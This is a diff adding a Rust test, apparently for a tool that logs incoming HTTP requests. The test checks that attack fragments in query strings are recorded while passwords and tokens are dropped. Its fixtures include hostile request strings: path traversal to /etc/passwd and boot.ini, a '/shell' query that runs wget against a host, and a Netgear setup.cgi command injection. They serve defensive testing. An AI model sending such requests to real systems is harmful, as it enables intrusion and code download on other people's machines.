@@ -133,6 +133,35 @@ fn the_password_in_a_target_is_not_kept() {
 }
 
 #[test]
+fn of_a_query_what_attacks_carry_is_kept_and_no_secret() {
+    let queries = |target: &str| {
+        let told = told(&[&format!("GET {target} HTTP/1.1\r\nHost: a\r\n\r\n")]);
+        assert!(!told.contains("hunter2"), "{told}");
+        let queries = told.lines().filter_map(|line| line.strip_prefix("url.query = "));
+        queries.collect::<Vec<_>>().join(" ")
+    };
+    assert_eq!(queries("/a?user=op&page=3&password=hunter2"), "");
+    assert_eq!(
+        queries("/cgi-bin/read?id=7&file=../../../etc/passwd&token=hunter2#x"),
+        "file=../../../etc/passwd"
+    );
+    assert_eq!(queries("http://a/x?P=..%2F..%2fboot.ini"), "P=..%2F..%2fboot.ini");
+    assert_eq!(queries("/shell?cd+/tmp;wget+http://b/c"), "cd+/tmp;wget+http://b/c");
+    assert_eq!(
+        queries("/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=reboot"),
+        "next_file=netgear.cfg"
+    );
+    // Of what may hold a secret the mark alone, also where it stands within another.
+    assert_eq!(queries("/a?pwd=hunter2;wget+b"), ";wget");
+    assert_eq!(queries("/a?back=../../b%3ftoken%3Dhunter2"), "../../");
+    // A long one from shortly before the mark.
+    let long = queries(&format!("/a?f={}../../x", "y".repeat(300)));
+    assert_eq!(long, format!("{}../../x", "y".repeat(40)));
+    let many: Vec<String> = (0..40).map(|n| format!("f=../{n}")).collect();
+    assert_eq!(queries(&format!("/a?{}", many.join("&"))).split(' ').count(), 16);
+}
+
+#[test]
 fn a_status_tells_the_fate_of_the_credentials_that_it_is_about() {
     let outcome = |field: &str, status: u16| {
         let asked = format!("GET / HTTP/1.1\r\n{field}: Basic YWRtaW46c2VjcmV0\r\n\r\n");
